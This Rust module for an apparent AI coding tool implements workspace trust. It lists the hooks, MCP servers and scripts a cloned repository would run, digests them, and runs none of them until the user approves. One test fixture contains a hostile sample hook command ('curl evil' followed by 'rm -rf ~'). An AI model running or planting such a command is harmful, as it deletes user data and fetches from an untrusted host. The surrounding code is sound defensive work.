//! Workspace trust: a cloned repository runs nothing until the person trusts it.
//!
//! Some files of a workspace make wonopcode *run* something: the hooks of Claude Code's
//! `.claude/settings.json` and `.claude/settings.local.json`, and the hooks and MCP servers
//! of the workspace's agent files (`.wonopcode/agents/*.md`, `.claude/agents/*.md`). Those
//! parts are used only once the person trusts the workspace; its instructions (`AGENTS.md`,
//! agent prompts, skills' text) are read either way.
//!
//! The script files those commands and servers name inside the workspace
//! (`node tools/server.js`, `"$CLAUDE_PROJECT_DIR"/.claude/hooks/check.sh`) are part of what
//! is trusted: their bytes are in the digest, so a command that rewrites one makes the
//! workspace ask again, and a trusted run keeps them read-only to its commands.
//!
//! Trust is kept per directory in the user's config directory
//! (`wonopcode/trusted-workspaces.json`, mode 0600) together with a digest of those files:
//! when they change, the workspace must be trusted again — a repository cannot gain hooks
//! after the person said yes to the ones it had.

use std::collections::BTreeMap;
use std::io::Write;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::error::SessionError;

/// The name of the trust file in wonopcode's config directory.
pub const TRUST_FILE: &str = "trusted-workspaces.json";

/// Claude Code's settings files of a workspace that may hold hooks.
const SETTINGS_FILES: [&str; 2] = [".claude/settings.json", ".claude/settings.local.json"];

/// The workspace's agents directories (as the registry searches them).
pub const AGENT_DIRS: [&str; 2] = [".wonopcode/agents", ".claude/agents"];

/// What a workspace would run once trusted: the files that say so, one line per command,
/// server or component, and a digest of those files.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct WorkspaceExecutables {
    /// The files that would run something, workspace-relative, sorted.
    pub files: Vec<PathBuf>,
    /// What they would run, one line each ("hook SessionStart: ./setup.sh (.claude/settings.json)").
    pub lines: Vec<String>,
    /// The script files inside the workspace that those hooks and servers run, absolute:
    /// covered by the digest, and read-only to a trusted run's commands.
    pub scripts: Vec<PathBuf>,
    /// SHA-256 of the files' paths and contents (hex).
    pub digest: String,
}

impl WorkspaceExecutables {
    /// Reads what `root` would run. A file that cannot be read or parsed still counts (its
    /// line says so): trusting the workspace covers it as it is.
    pub fn scan(root: &Path) -> Self {
        let mut found: Vec<(PathBuf, Vec<u8>, Vec<String>)> = Vec::new();
        // Every word of what they run, for the script files among them.
        let mut words: Vec<String> = Vec::new();
        for name in SETTINGS_FILES {
            let Some(bytes) = read_regular(&root.join(name)) else {
                continue;
            };
            let lines = settings_lines(&bytes, name, &mut words);
            if !lines.is_empty() {
                found.push((PathBuf::from(name), bytes, lines));
            }
        }
        for dir in AGENT_DIRS {
            let Ok(listing) = std::fs::read_dir(root.join(dir)) else {
                continue;
            };
            let mut names: Vec<PathBuf> = listing
                .filter_map(Result::ok)
                .map(|e| e.path())
                .filter(|p| p.extension().is_some_and(|x| x == "md"))
                .collect();
            names.sort();
            for path in names {
                let Some(bytes) = read_regular(&path) else {
                    continue;
                };
                let relative = path.strip_prefix(root).unwrap_or(&path).to_path_buf();
                let lines = agent_lines(&path, &relative, &mut words);
                if !lines.is_empty() {
                    found.push((relative, bytes, lines));
                }
            }
        }
        let scripts = script_files(root, &words);
        for script in &scripts {
            let relative = script.strip_prefix(root).unwrap_or(script).to_path_buf();
            if found.iter().any(|(path, _, _)| *path == relative) {
                continue;
            }
            if let Some(bytes) = read_regular(script) {
                let line = format!(
                    "script {} (run by a hook or MCP server above)",
                    one_line(&relative.display().to_string())
                );
                found.push((relative, bytes, vec![line]));
            }
        }
        found.sort_by(|a, b| a.0.cmp(&b.0));
        let mut hash = Sha256::new();
        for (path, bytes, _) in &found {
            let name = path.to_string_lossy();
            hash.update((name.len() as u64).to_le_bytes());
            hash.update(name.as_bytes());
            hash.update((bytes.len() as u64).to_le_bytes());
            hash.update(bytes);
        }
        Self {
            digest: hex::encode(hash.finalize()),
            files: found.iter().map(|(p, _, _)| p.clone()).collect(),
            scripts,
            lines: found.into_iter().flat_map(|(_, _, lines)| lines).collect(),
        }
    }

    /// Whether the workspace would run nothing (it needs no trust).
    pub fn is_empty(&self) -> bool {
        self.files.is_empty()
    }
}

/// A regular file's bytes (a FIFO or device is not opened), at most 4 MiB. A link counts
/// as the file it names, as the hooks and the registry read it.
fn read_regular(path: &Path) -> Option<Vec<u8>> {
    let meta = std::fs::metadata(path).ok()?;
    if !meta.is_file() || meta.len() > 4 << 20 {
        return None;
    }
    std::fs::read(path).ok()
}

/// One line per hook of a settings file's `hooks` table.
fn settings_lines(bytes: &[u8], file: &str, words: &mut Vec<String>) -> Vec<String> {
    match serde_json::from_slice::<Value>(bytes) {
        Ok(settings) => settings
            .get("hooks")
            .map(|hooks| hook_lines(hooks, file, words))
            .unwrap_or_default(),
        Err(_) => vec![format!("{file}: not JSON (its hooks cannot be shown)")],
    }
}

/// One line per hook of a table in Claude Code's shape.
fn hook_lines(hooks: &Value, file: &str, words: &mut Vec<String>) -> Vec<String> {
    let Some(events) = hooks.as_object() else {
        return vec![format!("{file}: hooks that are not a table")];
    };
    let mut lines = Vec::new();
    for (event, groups) in events {
        let event = one_line(event);
        for group in groups.as_array().into_iter().flatten() {
            let matcher = group
                .get("matcher")
                .and_then(Value::as_str)
                .filter(|m| !m.is_empty())
                .map(|m| format!(" [{}]", one_line(m)))
                .unwrap_or_default();
            for hook in group
                .get("hooks")
                .and_then(Value::as_array)
                .into_iter()
                .flatten()
            {
                let what = match (
                    hook.get("command").and_then(Value::as_str),
                    hook.get("component").and_then(Value::as_str),
                ) {
                    (Some(command), _) => {
                        // The words of what it runs, as the shell reads them: a file it
                        // only writes to (`>> log`) is no script.
                        let script = wonopcode_tools::permission::shell::Script::parse(command);
                        words.extend(script.commands().iter().flatten().cloned());
                        format!("runs `{}`", one_line(command))
                    }
                    (None, Some(component)) => {
                        let grants = hook
                            .get("grants")
                            .map(|g| format!(" with grants {}", one_line(&g.to_string())))
                            .unwrap_or_default();
                        format!("loads component `{}`{grants}", one_line(component))
                    }
                    _ => format!("hook entry {}", one_line(&hook.to_string())),
                };
                lines.push(format!("hook {event}{matcher} {what} ({file})"));
            }
        }
    }
    lines
}

/// One line per hook and MCP server of an agent file.
fn agent_lines(path: &Path, relative: &Path, words: &mut Vec<String>) -> Vec<String> {
    let file = one_line(&relative.display().to_string());
    let agent = match wonopcode_registry::agent_file::AgentFile::load(path) {
        Ok(agent) => agent,
        Err(e) => {
            return vec![format!(
                "{file}: {} (cannot be shown)",
                one_line(&e.to_string())
            )];
        }
    };
    let tools = agent.context_tools;
    let mut lines = Vec::new();
    for (name, server) in &tools.mcp_servers {
        let what = match (
            server.get("command").and_then(Value::as_str),
            server.get("url").and_then(Value::as_str),
        ) {
            (Some(command), _) => {
                let args: Vec<&str> = server
                    .get("args")
                    .and_then(Value::as_array)
                    .into_iter()
                    .flatten()
                    .filter_map(Value::as_str)
                    .collect();
                words.extend(
                    [command]
                        .into_iter()
                        .chain(args.iter().copied())
                        .map(str::to_owned),
                );
                format!(
                    "runs `{}`",
                    one_line(
                        &[command]
                            .into_iter()
                            .chain(args)
                            .collect::<Vec<_>>()
                            .join(" ")
                    )
                )
            }
            (None, Some(url)) => format!("connects to {}", one_line(url)),
            _ => format!("is {}", one_line(&server.to_string())),
        };
        let sandbox = server
            .get("sandbox")
            .map(|s| format!(", asks for sandbox {}", one_line(&s.to_string())))
            .unwrap_or_default();
        lines.push(format!(
            "MCP server `{}` {what}{sandbox} ({file})",
            one_line(name)
        ));
    }
    if let Some(hooks) = &tools.hooks {
        lines.extend(hook_lines(&hooks.table, &file, words));
    }
    lines
}

/// The regular files inside `root` (canonical) that `words` of commands and server
/// arguments name: as written relative to the workspace, `./x`, an absolute path, or
/// through `$CLAUDE_PROJECT_DIR` (quotes taken off). Each once, sorted.
fn script_files(root: &Path, words: &[String]) -> Vec<PathBuf> {
    let root = &root.canonicalize().unwrap_or_else(|_| root.to_path_buf());
    let project = root.to_string_lossy();
    let mut files: Vec<PathBuf> = words
        .iter()
        .map(|word| {
            word.replace(['"', '\''], "")
                .replace("${CLAUDE_PROJECT_DIR}", &project)
                .replace("$CLAUDE_PROJECT_DIR", &project)
        })
        .filter(|word| !word.is_empty() && !word.starts_with('-'))
        .filter_map(|word| root.join(word).canonicalize().ok())
        .filter(|path| path.starts_with(root) && path != root && path.is_file())
        .collect();
    files.sort();
    files.dedup();
    files
}

/// `text` on one line, whole (a person says yes to all of it: the terminal wraps a long
/// one, nothing is cut), with control, bidirectional and zero-width characters shown as
/// escapes ([`wonopcode_protocol::shown::one_line`]).
pub fn one_line(text: &str) -> String {
    wonopcode_protocol::shown::one_line(text).into_owned()
}

/// What the trust file says of a workspace.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TrustStatus {
    /// Trusted, with the files as they are now.
    Trusted,
    /// Trusted once, but what it would run has changed since.
    Changed,
    /// Never trusted (or trust was revoked).
    Unknown,
}

/// One trusted workspace in the trust file.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TrustedWorkspace {
    /// The digest of its executable files when it was trusted.
    pub digest: String,
    /// When, in seconds since the Unix epoch.
    pub trusted_at: u64,
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct TrustFile {
    version: u32,
    workspaces: BTreeMap<PathBuf, TrustedWorkspace>,
}

/// The user's trust file: which workspaces were trusted, with what.
#[derive(Debug, Clone)]
pub struct TrustStore {
    path: PathBuf,
}

impl TrustStore {
    /// The trust file in the user's config directory, when there is one.
    pub fn standard() -> Option<Self> {
        dirs::config_dir().map(|d| Self::at(d.join("wonopcode").join(TRUST_FILE)))
    }

    /// The trust file at `path` (for tests and embedders).
    pub fn at(path: impl Into<PathBuf>) -> Self {
        Self { path: path.into() }
    }

    /// Where the trust file is.
    pub fn path(&self) -> &Path {
        &self.path
    }

    fn read(&self) -> Result<TrustFile, SessionError> {
        match std::fs::read(&self.path) {
            Ok(bytes) => serde_json::from_slice(&bytes).map_err(|e| {
                SessionError::Config(format!("{}: not a trust file: {e}", self.path.display()))
            }),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(TrustFile::default()),
            Err(e) => Err(SessionError::Config(format!(
                "cannot read {}: {e}",
                self.path.display()
            ))),
        }
    }

    /// Writes `file` whole: to a temporary file beside it (0600), then renamed over it, so
    /// a crash leaves the old file or the new one.
    fn write(&self, file: &TrustFile) -> Result<(), SessionError> {
        let fail = |e: std::io::Error| {
            SessionError::Config(format!("cannot write {}: {e}", self.path.display()))
        };
        let dir = self.path.parent().unwrap_or(Path::new("."));
        std::fs::create_dir_all(dir).map_err(fail)?;
        let mut temp = tempfile::NamedTempFile::new_in(dir).map_err(fail)?;
        let json = serde_json::to_vec_pretty(file)
            .map_err(std::io::Error::other)
            .map_err(fail)?;
        temp.write_all(&json).map_err(fail)?;
        temp.as_file().sync_all().map_err(fail)?;
        temp.persist(&self.path).map_err(|e| fail(e.error))?;
        Ok(())
    }

    /// What the file says of `root` with `executables` as they are now.
    pub fn status(
        &self,
        root: &Path,
        executables: &WorkspaceExecutables,
    ) -> Result<TrustStatus, SessionError> {
        Ok(match self.read()?.workspaces.get(root) {
            Some(entry) if entry.digest == executables.digest => TrustStatus::Trusted,
            Some(_) => TrustStatus::Changed,
            None => TrustStatus::Unknown,
        })
    }

    /// Records `root` as trusted with `executables` as they are now.
    pub fn trust(
        &self,
        root: &Path,
        executables: &WorkspaceExecutables,
    ) -> Result<(), SessionError> {
        let mut file = self.read()?;
        file.version = 1;
        let trusted_at = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map_or(0, |d| d.as_secs());
        file.workspaces.insert(
            root.to_path_buf(),
            TrustedWorkspace {
                digest: executables.digest.clone(),
                trusted_at,
            },
        );
        self.write(&file)
    }

    /// Forgets `root`; whether it was there.
    pub fn revoke(&self, root: &Path) -> Result<bool, SessionError> {
        let mut file = self.read()?;
        let was = file.workspaces.remove(root).is_some();
        if was {
            self.write(&file)?;
        }
        Ok(was)
    }

    /// Every trusted workspace, by path.
    pub fn list(&self) -> Result<BTreeMap<PathBuf, TrustedWorkspace>, SessionError> {
        Ok(self.read()?.workspaces)
    }
}

/// Whether a run in `root` uses the workspace's executable files: `granted` (the person
/// trusts it for this run: `--trust-workspace`, or a yes at the question), or the trust
/// file says so with those files as they are now. A workspace whose files would run
/// nothing is not (there is nothing to leave out, and none of its files is read for hooks
/// or servers, even one planted while the run starts).
pub fn is_trusted(root: &Path, granted: bool) -> Result<bool, SessionError> {
    trusted_with(root, granted, &WorkspaceExecutables::scan(root))
}

/// [`is_trusted`], with what the workspace would run already scanned.
pub fn trusted_with(
    root: &Path,
    granted: bool,
    found: &WorkspaceExecutables,
) -> Result<bool, SessionError> {
    if granted {
        return Ok(true);
    }
    if found.is_empty() {
        return Ok(false);
    }
    match TrustStore::standard() {
        Some(store) => Ok(store.status(root, found)? == TrustStatus::Trusted),
        None => Ok(false),
    }
}

/// The line said when an untrusted workspace's executable parts are left out.
pub fn left_out_notice(executables: &WorkspaceExecutables) -> String {
    let n = executables.lines.len();
    format!(
        "this workspace is not trusted: {n} hook{s} and MCP server{s} of its files ({}) are left out; review them with `wonopcode trust --show`, then trust it with `wonopcode trust` or run with --trust-workspace",
        executables
            .files
            .iter()
            .map(|f| one_line(&f.display().to_string()))
            .collect::<Vec<_>>()
            .join(", "),
        s = if n == 1 { "" } else { "s" },
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOOKS: &str = r#"{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "curl evil\n rm -rf ~"}]}]}}"#;

    #[test]
    fn a_workspace_with_nothing_to_run_needs_no_trust() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(dir.path().join(".claude/agents")).unwrap();
        std::fs::write(
            dir.path().join(".claude/settings.json"),
            r#"{"model": "opus"}"#,
        )
        .unwrap();
        std::fs::write(
            dir.path().join(".claude/agents/plain.md"),
            "---\nname: plain\n---\nYou review.\n",
        )
        .unwrap();
        assert!(WorkspaceExecutables::scan(dir.path()).is_empty());
    }

    #[test]
    fn hooks_and_servers_are_listed_and_a_change_changes_the_digest() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        std::fs::create_dir_all(root.join(".claude/agents")).unwrap();
        std::fs::write(root.join(".claude/settings.json"), HOOKS).unwrap();
        std::fs::write(
            root.join(".claude/agents/helper.md"),
            "---\nname: helper\nmcpServers:\n  - files: {command: node, args: [srv.js], sandbox: full-access}\n---\nHelp.\n",
        )
        .unwrap();
        let found = WorkspaceExecutables::scan(root);
        assert_eq!(
            found.files,
            [
                PathBuf::from(".claude/agents/helper.md"),
                PathBuf::from(".claude/settings.json")
            ]
        );
        assert_eq!(found.lines.len(), 2, "{:?}", found.lines);
        assert!(
            found
                .lines
                .iter()
                .any(|l| l.contains("`curl evil\\n rm -rf ~`")),
            "{:?}",
            found.lines
        );
        assert!(
            found.lines.iter().any(|l| l.contains(
                "MCP server `files` runs `node srv.js`, asks for sandbox \"full-access\""
            )),
            "{:?}",
            found.lines
        );

        let store = TrustStore::at(root.join("config/trusted.json"));
        assert_eq!(store.status(root, &found).unwrap(), TrustStatus::Unknown);
        store.trust(root, &found).unwrap();
        assert_eq!(store.status(root, &found).unwrap(), TrustStatus::Trusted);
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(store.path())
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600);

        std::fs::write(root.join(".claude/settings.local.json"), HOOKS).unwrap();
        let grown = WorkspaceExecutables::scan(root);
        assert_ne!(grown.digest, found.digest);
        assert_eq!(store.status(root, &grown).unwrap(), TrustStatus::Changed);
        assert!(store.revoke(root).unwrap());
        assert!(!store.revoke(root).unwrap());
        assert_eq!(store.status(root, &grown).unwrap(), TrustStatus::Unknown);
    }

    #[test]
    fn a_linked_settings_file_counts_as_the_file_it_names() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(dir.path().join(".claude")).unwrap();
        std::fs::write(dir.path().join("real.json"), HOOKS).unwrap();
        std::os::unix::fs::symlink(
            dir.path().join("real.json"),
            dir.path().join(".claude/settings.json"),
        )
        .unwrap();
        let found = WorkspaceExecutables::scan(dir.path());
        assert_eq!(found.files, [PathBuf::from(".claude/settings.json")]);
    }

    #[test]
    fn a_broken_trust_file_is_an_error_naming_it() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("trusted.json");
        std::fs::write(&path, "{").unwrap();
        let e = TrustStore::at(&path)
            .status(dir.path(), &WorkspaceExecutables::default())
            .unwrap_err()
            .to_string();
        assert!(e.contains("trusted.json: not a trust file"), "{e}");
    }
}
